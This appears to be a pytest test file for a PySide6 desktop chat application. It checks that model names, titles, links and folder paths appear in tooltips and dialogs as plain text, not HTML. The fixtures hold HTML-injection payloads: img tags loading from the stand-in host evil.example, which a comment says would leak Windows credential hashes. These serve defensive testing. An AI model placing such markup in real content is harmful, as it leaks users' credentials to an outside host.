"""Foreign text in tooltips: names of models and files, titles, addresses. Qt would take what looks like HTML for it."""

from __future__ import annotations

import html
from dataclasses import replace

import pytest
from PySide6 import QtGui
from PySide6.QtCore import QCoreApplication, Qt
from PySide6.QtGui import QTextDocument
from PySide6.QtWidgets import QListWidget, QMessageBox, QWidget
from pytestqt.qtbot import QtBot

from desktop.app import start
from desktop.common.errors import UserFacingError
from desktop.ui.settings.editors import ModelEditor
from desktop.ui.transcript.markdown.document import blocks_of
from desktop.ui.widgets.labels import ElidedLabel
from desktop.ui.words import plain_tip
from tests.rigs.conversations import answer, conversation, question
from tests.rigs.meter import Meter
from tests.rigs.models import SMALL_HERE
from tests.rigs.windows import chat_window, transcript
from tests.support.widgets import children

# On Windows such an address sends the user's name and the hash of the password to that computer.
NAME = "a<img src='//evil.example/share/x.png'> <b>b</b> &lt;i&gt;" + "c" * 100


@pytest.mark.parametrize("text", ["plain\nlines", NAME, "a < b & c > d", "</p><h1>x", "<think>", "  <b>x", "&lt;"])
def test_a_tooltip_shows_a_text_as_it_is(qapp: QCoreApplication, text: str) -> None:
    tip = plain_tip(text)
    document = QTextDocument()
    if QtGui.Qt.mightBeRichText(tip):
        document.setHtml(tip)
    else:
        document.setPlainText(tip)
    assert document.toPlainText() == text


def test_no_foreign_text_reaches_a_tooltip_as_html(qtbot: QtBot) -> None:
    # GIVEN a title, a model's name, a link and a path that are HTML, and would load a picture from another computer
    window = chat_window(qtbot, Meter())
    window.list.set_conversations([conversation("a", NAME)], None)
    window.status.set_model(NAME, installed=True)
    view = transcript(qtbot)
    link = "[x](http://a.example/<img\u00a0src='//evil.example/x.png'>)"
    view.show_messages([question(1), replace(answer(2, link), model=NAME)], 0)
    label = ElidedLabel(NAME)
    qtbot.addWidget(label)
    label.resize(50, 20)
    label.say(NAME)
    editor = ModelEditor((replace(SMALL_HERE, name=NAME),))
    qtbot.addWidget(editor)
    editor.set_value(SMALL_HERE.id)
    # WHEN the mouse rests on any of it
    tips = [label.toolTip(), *(widget.toolTip() for each in (window, editor) for widget in children(each, QWidget))]
    (rows,) = children(window.list, QListWidget)
    tips += [str(rows.item(row).data(Qt.ItemDataRole.ToolTipRole)) for row in range(rows.count())]
    for block in blocks_of(view.document()):
        tips += [run.format.toolTip() for run in block.textFormats()]  # type: ignore[attr-defined]
    foreign = [html.unescape(tip) for tip in tips if "evil" in tip]
    assert len(foreign) >= 6
    # THEN it is shown as text
    assert [tip for tip in tips if "<img" in tip] == []


def test_a_start_that_fails_names_a_folder_as_it_is_called(qapp: QCoreApplication) -> None:
    box = start._message(UserFacingError("Catnap cannot write to its folder.", f"/home/{NAME}."))
    assert isinstance(box, QMessageBox)
    assert box.textFormat() is Qt.TextFormat.PlainText and NAME in box.text()
    box.deleteLater()
